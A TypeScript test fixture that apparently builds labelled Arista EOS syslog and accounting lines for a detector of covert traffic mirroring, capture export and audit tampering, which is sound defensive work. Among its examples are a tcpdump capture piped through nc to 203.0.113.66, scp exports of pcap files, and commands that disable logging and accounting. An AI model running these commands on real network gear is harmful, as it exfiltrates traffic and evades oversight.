/** Lines of EOS logs and what each shows. */
import type { RecordExample } from '../../../facts/log-content/log-source.ts'
import type { RecordAct } from '../../../facts/log-content/record-act.ts'
import { commandExamples, type ExampleCommands, type RecordWriter } from '../../_content/command-examples.ts'
import { SYSLOG } from './sources.ts'

const WRITERS: readonly [RecordWriter, ...RecordWriter[]] = [
  (command, seconds) =>
    `Nov 14 03:12:${seconds} leaf-1 Aaa: %ACCOUNTING-6-CMD: netops-1 vty6 192.0.2.10 stop task_id=17 start_time=1794625927.5 timezone=UTC service=shell priv-lvl=15 cmd=${command} <cr>`,
  (command, seconds) =>
    `2026 Nov 14 03:12:${seconds} UTC leaf-1.example.net Aaa: 132: %ACCOUNTING-6-CMD: netops-1 ssh 2001:db8::10 start task_id=18 start_time=1794625928 timezone=UTC service=shell priv-lvl=15 cmd=${command} <cr>`,
  (command, seconds) =>
    `<165>1 2026-11-14T03:12:${seconds}Z leaf-1 Aaa - - - %ACCOUNTING-6-CMD: netops-1 con0 0.0.0.0 stop task_id=19 start_time=1794625929 timezone=UTC service=shell priv-lvl=15 cmd=${command} <cr>`,
]

const GRE_TAP = 'gre session TAP'

const TYPED: readonly ExampleCommands[] = [
  {
    acts: ['session-set'],
    commands: [
      'monitor session TAP source Ethernet1 rx',
      'monitor session TAP destination tunnel mode gre source 192.0.2.1 destination 203.0.113.66',
      'monitor session TAP truncate size 128',
    ],
    setup: GRE_TAP,
  },
  {
    acts: ['session-set'],
    commands: [
      'monitor session LOCAL',
      'mon sess TAP2 so et1-2 r',
      'mon ses TAP2 dest et48',
      'monitor session TAP ip access-group WEB',
      'monitor session DROPS forwarding-drop destination Ethernet3',
      'no monitor session TAP ip access-group WEB',
      'no monitor session TAP shutdown',
      'no monitor session TAP destination',
      'queue-monitor length mirror destination Ethernet4',
    ],
  },
  {
    acts: ['session-removed'],
    commands: [
      'no monitor session TAP',
      'default monitor session TAP',
      'no mon sess TAP source Ethernet1',
      'no monitor session TAP destination Ethernet48',
      'monitor session TAP shutdown',
      'no queue-monitor length mirror',
    ],
  },
  {
    acts: ['capture-set'],
    commands: [
      'tcpdump session GRAB interface Ethernet3 file flash:d.pcap filter port 49',
      'bash tcpdump -i et1 -w /mnt/flash/a.pcap',
      'bash sudo timeout 60 /usr/sbin/tcpdump -nni et5_1',
    ],
  },
  { acts: ['capture-removed'], commands: ['no tcpdump session GRAB'] },
  {
    acts: ['capture-set', 'capture-exported'],
    commands: ['bash tcpdump -i mirror0 -U -w - | nc 203.0.113.66 9999'],
  },
  {
    acts: ['capture-exported'],
    commands: [
      'copy flash:a.pcap scp://netops-1@203.0.113.66/a.pcap',
      'bash scp /mnt/flash/a.pcap netops-1@203.0.113.66:/tmp/',
    ],
  },
  { acts: ['session-set', 'scripted-mirror'], commands: ['alias tap monitor session NIGHT source Ethernet1'] },
  {
    acts: ['capture-set', 'scripted-mirror'],
    commands: [
      'schedule GRAB interval 5 timeout 1 max-log-files 1 command bash tcpdump -i et1 -w /tmp/x.pcap',
      'event-handler NIGHT action bash tcpdump -i et1',
    ],
  },
]

const RELATED: readonly ExampleCommands[] = [
  {
    acts: ['logging-cut'],
    commands: [
      'no logging host 192.0.2.50',
      'no logging vrf MGMT host 192.0.2.51',
      'no logging on',
      'clear logging',
      'no daemon TerminAttr',
    ],
  },
  {
    acts: ['accounting-cut'],
    commands: [
      'no aaa accounting commands all default',
      'no aaa accounting',
      'aaa accounting commands all default none',
    ],
  },
  {
    acts: ['configuration-copied-in'],
    commands: [
      'copy tftp://192.0.2.9/x running-config',
      'copy flash:x session-config',
      'configure replace flash:golden',
      'configure checkpoint restore ckp-1',
    ],
  },
  { acts: ['aaa-server-changed'], commands: ['tacacs-server host 203.0.113.9', 'no radius-server host 192.0.2.60'] },
  {
    acts: ['route-changed'],
    commands: ['ip route 203.0.113.0/24 192.0.2.99', 'no ipv6 route 2001:db8::/32 2001:db8::1'],
  },
  { acts: ['filter-changed'], commands: ['ip access-list WEB'] },
  { acts: ['image-changed'], commands: ['boot system flash:/other.swi'] },
  { acts: ['shell-entered'], commands: ['bash', 'bash ls -l /mnt/flash'] },
]

const BENIGN: ExampleCommands = {
  acts: [],
  commands: [
    'show monitor session',
    'do show monitor session TAP',
    'description monitor session TAP source Ethernet1',
    'monitor session default encapsulation gre payload inner-packet',
    'monitor telemetry postcard policy',
    'queue-monitor length',
    'bash tcpdump -r /mnt/flash/a.pcap',
    'copy flash:a.pcap flash:b.pcap',
    'copy running-config startup-config',
    'no logging console',
    'aaa accounting commands all default start-stop group TACACS',
    'configure terminal',
    'interface Ethernet1',
    'event-handler NIGHT',
  ],
}

const MESSAGES: readonly (readonly [acts: readonly RecordAct[], text: string])[] = [
  [['configuration-edited'], 'ConfigAgent: %SYS-5-CONFIG_I: Configured from console by netops-1 on vty3 (192.0.2.10)'],
  [
    ['configuration-edited'],
    'ConfigAgent: %SYS-5-CONFIG_SESSION_COMMIT_SUCCESS: User netops-1 committed configuration session S1 successfully on vty3 (192.0.2.10)',
  ],
  [
    ['configuration-copied-in'],
    'ConfigAgent: %SYS-5-CONFIG_I: Configured from tftp://192.0.2.9/x by netops-1 on vty3 (192.0.2.10)',
  ],
  [
    ['configuration-copied-in'],
    'ConfigAgent: %SYS-5-CONFIG_SESSION_COMMIT_SUCCESS: User automation-1 committed configuration session s2 successfully on GNMI (192.0.2.11:57388)',
  ],
  [
    ['configuration-copied-in'],
    'ConfigAgent: %SYS-3-CONFIG_SESSION_COMMIT_TIMER_TIMEDOUT: The commit timer on session S1 has expired.The system configuration will be rolled back.',
  ],
  [['aaa-fallback-local'], 'Aaa: %TACACS-4-X: all servers of group TACACS unreachable, falling back to local'],
  [
    ['session-refused'],
    "Aaa: %AAA-4-CMD_AUTHZ_FAILED: User netops-9 failed authorization to execute command 'monitor session X source Ethernet1'",
  ],
  [
    ['privilege-refused'],
    "Aaa: %AAA-4-CMD_AUTHZ_FAILED: User netops-9 failed authorization to execute command 'show running-config'",
  ],
  [[], 'ConfigAgent: %SYS-5-CONFIG_E: Enter configuration mode from console by netops-1 on vty3 (192.0.2.10)'],
  [[], 'Mirroring: %MIRRORING-6-SESSION_STATE: Mirroring session TAP1 is active'],
  [[], 'Aaa: %AAA-5-LOGIN: user netops-1 logged in [from: 192.0.2.10] [service: sshd]'],
]

export const examples: readonly RecordExample[] = [
  ...commandExamples(SYSLOG, WRITERS, [...TYPED, ...RELATED, BENIGN]),
  ...MESSAGES.map(([acts, text]) => ({
    name: text.slice(0, 120),
    source: SYSLOG,
    text: `Nov 14 03:12:09 leaf-1 ${text}`,
    acts,
  })),
]
